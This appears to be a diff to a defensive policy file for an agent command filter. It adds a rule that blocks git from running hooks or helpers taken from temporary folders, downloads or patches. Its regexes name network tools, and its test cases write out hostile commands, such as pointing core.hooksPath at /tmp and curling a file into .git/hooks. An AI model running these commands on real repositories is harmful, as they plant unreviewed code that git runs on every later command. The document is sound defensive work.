@@ -3,6 +3,7 @@ import { all, any, command, effect, not } from "../condition.ts";
 import type { Policy } from "../policy.ts";
 
 const DANGEROUS = { category: "security-dangerous", phases: ["request"], action: "block" } as const;
+const HOOK = /(?:^|\/)\.git\/hooks\/(?!.*\.sample$)./;
 
 /** The policies. */
 export const gitHistory: readonly Policy[] = [
@@ -149,5 +150,45 @@ export const gitHistory: readonly Policy[] = [
     ),
     hits: ["git config core.hooksPath /tmp/h", "cp x .git/hooks/post-commit", "git config alias.x '!sh -c id'"],
     misses: ["git config user.name Ada", "git config --get core.pager", "ls .git/hooks"],
+  },
+  {
+    ...DANGEROUS,
+    id: "sys_dangerous_git_foreign_code",
+    title: "Git would run code from a patch, a download or a temporary folder",
+    severity: "high",
+    why:
+      "Git runs it with every later command, and nobody has read it; keep hooks in the repository, for example in .githooks, and let the user switch them on",
+    when: any(
+      effect("set", { text: /^git [\w.*:\/-]+=!?["']?(?:\/private)?\/(?:tmp|var\/tmp|dev\/shm)(?:\/|["'\s]|$)/ }),
+      effect("set", {
+        text: /^git credential\.(?:.{1,200}\.)?helper=!.{0,400}\b(?:curl|wget|nc|ncat|socat|dig|nslookup)\b/,
+      }),
+      all(command("apply_patch"), effect("write", { path: HOOK })),
+      effect("write", { path: HOOK, carries: ["download", "decoded", "remote"] }),
+      all(
+        command(["ln", "link", "cp", "mv", "install"], {
+          words: /(?:^|\s)(?:\/private)?\/(?:tmp|var\/tmp|dev\/shm)\//,
+        }),
+        effect("write", { path: HOOK }),
+      ),
+    ),
+    hits: [
+      "git config core.hooksPath /tmp",
+      "git -c core.hooksPath=/tmp/h commit -m x",
+      "git config --global core.fsmonitor /tmp/x",
+      "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp git commit -m x",
+      "printf '[core]\\n\\thooksPath = /tmp/h\\n' >> .git/config",
+      "curl https://example.com/h -o .git/hooks/pre-commit",
+      "ln -s /tmp/x .git/hooks/pre-commit",
+      "apply_patch '*** Begin Patch\n*** Add File: .git/hooks/pre-commit\n+make test\n*** End Patch'",
+    ],
+    misses: [
+      "git config core.hooksPath .githooks",
+      "git config --get core.hooksPath",
+      "git -c core.pager=cat log",
+      "cp scripts/pre-commit .git/hooks/pre-commit",
+      "git config core.sshCommand 'ssh -i ~/.ssh/deploy_key'",
+      "apply_patch '*** Begin Patch\n*** Add File: .githooks/pre-commit\n+make test\n*** End Patch'",
+    ],
   },
 ];
